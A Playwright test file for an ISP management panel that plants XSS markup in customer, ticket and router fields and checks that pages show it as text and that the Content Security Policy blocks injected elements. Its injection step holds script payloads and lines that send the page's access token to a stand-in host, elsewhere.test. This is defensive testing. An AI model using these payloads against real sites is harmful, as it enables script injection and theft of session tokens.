import { randomBytes } from 'node:crypto';
import { RouterConnection } from '@lastmile/routeros';
import type { Page } from '@playwright/test';
import { createApi } from './support/api.ts';
import { accounts, expect, test } from './support/fixtures.ts';
import { settled, signIn } from './support/steps.ts';
import { createSubscribers } from './support/subscribers.ts';

/** Runs in a page that takes text for markup: by the handler of an image, a script and a link. */
const markup = (mark: string) =>
  `<img src=x onerror=planted=1><script>planted=1</script><a href=javascript:planted=1>${mark}</a>`;

const routerPort = () => Number(process.env['LIVE_ROUTER_PORT']);

/** An account on a router whose comment someone else wrote. */
async function plantOnRouter(name: string, comment: string): Promise<void> {
  const router = await RouterConnection.open({
    ...{ host: '127.0.0.1', port: routerPort(), user: 'technician', password: 'ladder' },
  });
  try {
    const attributes = { name, password: 'secret', service: 'pppoe', profile: 'home-20', comment };
    await router.run({ path: '/ppp/secret/add', attributes });
  } finally {
    router.close();
  }
}

/** The text is shown as it was written, and nothing of it became an element or ran. */
async function expectShownAsText(page: Page, mark: string): Promise<void> {
  await expect(page.getByText(`>${mark}<`).first()).toBeVisible();
  expect(await page.evaluate('globalThis.planted')).toBeUndefined();
  expect(await page.evaluate(`document.querySelectorAll('img[src=x], a[href^="javascript:"]').length`)).toBe(
    0,
  );
}

/** Puts the markup into the document itself, as a fault of the interface would, and returns the violated directives. */
const injectInto = (page: Page, mark: string): Promise<string[]> =>
  page.evaluate(`new Promise((resolve) => {
    const violated = new Set();
    document.addEventListener('securitypolicyviolation', (event) => {
      violated.add(event.effectiveDirective);
    });
    document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(markup(mark))});
    const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
    add('script', { textContent: 'planted = 1' });
    add('script', { src: 'https://elsewhere.test/script.js' });
    add('iframe', { src: 'https://elsewhere.test/' });
    add('object', { data: 'https://elsewhere.test/' });
    add('style', { textContent: 'body { display: none }' });
    add('img', { src: 'https://elsewhere.test/' + localStorage.getItem('accessToken') });
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.test/' }));
    fetch('https://elsewhere.test/', { method: 'POST', body: 'token' }).catch(() => undefined);
    const wanted = 8;
    const timer = setInterval(() => { if (violated.size >= wanted) finish(); }, 50);
    const finish = () => { clearInterval(timer); clearTimeout(limit); resolve([...violated].sort()); };
    const limit = setTimeout(finish, 20000);
  })`);

test('markup of customers, routers and tickets is text, and the policy stops what would become markup', async ({
  browser,
  request,
}) => {
  test.setTimeout(600_000);
  const mark = `m${randomBytes(4).toString('hex')}`;
  const planted = markup(mark);
  const owner = await createApi(request, accounts.south);
  const { router, home } = await createSubscribers(request, 0, accounts.south);
  const subscriber = await owner.post<{ id: number }>('/api/isp/isp-user/store', {
    customer: { name: planted, mobile: '01990000088', clientType: 'home', language: 'en' },
    ...{
      routerId: router.id,
      packageId: home.id,
      username: mark,
      password: 'secret-of-markup',
      bindMac: false,
    },
    ...{ activate: true, billing: 'normal', billingMode: 'prepaid', billingDay: 1, monthlyDiscountMinor: 0 },
  });
  const { id: ticketId } = await owner.post<{ id: number }>('/api/isp/ticket/create-ticket', {
    ...{ subject: planted, body: `It blinks. ${planted}`, subscriberId: subscriber.id },
  });
  await plantOnRouter(`new-${mark}`, planted);
  const { id: routerId } = await owner.post<{ id: number }>('/api/isp/router/store', {
    ...{ name: `Markup ${mark}`, host: 'localhost', port: routerPort(), protocol: 'api', pollSeconds: 3_600 },
    ...{ username: 'lastmile', password: 'four winds', currentPassword: accounts.south.password },
  });
  await owner.post(`/api/isp/router/sync/${routerId}`, {});
  const inRouter = `/api/get-not-billing-users/${routerId}`;
  await expect
    .poll(async () => JSON.stringify(await owner.get(`${inRouter}?search=new-${mark}`)), { timeout: 120_000 })
    .toContain(mark);

  // Of its own: the errors that the policy logs are wanted here.
  const context = await browser.newContext({ baseURL: process.env['PANEL_URL'] ?? '' });
  const page = await context.newPage();
  await signIn(page, accounts.south, `/isp/isp-user-name-list?search=${mark}`);
  await settled(page);
  await expectShownAsText(page, mark);
  for (const path of [
    `/isp/isp-user-name-edit-v2/${subscriber.id}`,
    `/isp/isp-ticket-list?search=${mark}`,
    `/isp/ticket/${ticketId}`,
    `${inRouter}?search=new-${mark}`,
  ]) {
    await page.goto(path);
    await settled(page);
    await expectShownAsText(page, mark);
  }
  const violated = await injectInto(page, mark);
  expect(violated).toEqual(
    expect.arrayContaining([
      'base-uri',
      'connect-src',
      'frame-src',
      'img-src',
      'object-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ]),
  );
  expect(await page.evaluate('globalThis.planted')).toBeUndefined();
  await context.close();
});
